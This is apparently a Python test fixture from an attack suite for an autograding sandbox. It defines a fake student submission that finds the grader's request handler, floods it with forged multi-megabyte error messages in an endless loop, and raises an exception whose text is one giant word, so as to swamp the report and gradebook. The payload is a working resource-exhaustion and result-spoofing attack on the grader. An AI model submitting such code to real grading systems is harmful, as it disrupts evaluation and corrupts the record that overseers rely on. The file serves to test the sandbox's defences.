"""Forges an exception whose text is one word of megabytes, for the report and the gradebook."""

from tests.attacks.suite import Attack

ATTACK = Attack(
    harm="results of many megabytes, and minutes to lay them out",
    answer="""
import workbook.earlier

OWNER = getattr(workbook.earlier.__getattr__, "__self__", None)

try:
    from workbook.grade.sandbox.wire import MAX_HEADER, Message
except ImportError:
    MAX_HEADER = 2**22

WORD = "x" * (MAX_HEADER - 10000)


def update_parameters(params, grads, learning_rate):
    for session in [OWNER]:
        if type(session).__name__ == "RequestHandler":
            body = {"type": "Error", "message": WORD, "line": 1, "source": ""}
            # The real reply never comes.
            while True:
                session.channel.send(Message("raised", session.request, body))
                session.request = session.channel.receive().id
    raise type(WORD, (Exception,), {})(WORD)
""",
)
